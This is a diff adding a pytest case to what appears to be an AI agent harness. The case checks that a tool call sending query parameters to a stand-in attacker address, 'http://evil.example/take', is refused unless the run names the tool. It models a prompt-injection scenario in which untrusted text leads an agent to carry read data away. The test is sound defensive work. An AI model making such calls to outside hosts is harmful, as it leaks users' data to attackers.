@@ -185,3 +185,29 @@ async def test_more_of_a_page_that_was_opened_can_be_read() -> None:
         opened = calls(("open_page", {"url": url}))
         await work(scripted(*filter(None, [first, opened, opened, FOUND])), office)
         assert office.done.count(url) == 2
+
+
+@pytest.mark.parametrize(
+    ("args", "named", "is_refused"),
+    [({"query": {"of": "all"}}, (), True), ({}, (), False), ({"query": {"of": "all"}}, ("ask",), False)],
+)
+async def test_what_goes_to_an_address_with_the_request_can_carry_words_away(
+    args: dict[str, Any], named: tuple[str, ...], is_refused: bool
+) -> None:
+    """An address that was shown may be asked as it stands; with parameters only where the run names the tool."""
+    asked: list[str] = []
+
+    async def ask(url: str, query: dict[str, str] | None = None) -> str:
+        asked.append(url)
+        return "Answer."
+
+    class Asking(Office):
+        def tools(self) -> list[BaseTool]:
+            mark = effects("read", "url", carries=("query",))
+            return [*super().tools(), StructuredTool.from_function(coroutine=ask, description="Asks.", metadata=mark)]
+
+    url = "http://evil.example/take"
+    run = scripted(SEARCH, calls(("ask", {"url": url, **args})), FOUND)
+    _, told = await work(run, Asking(), f"Read {url} first.", UntrustedText(tools=named))
+    assert asked == ([] if is_refused else [url])
+    assert ("which can carry away what was read" in told[1].text) is is_refused
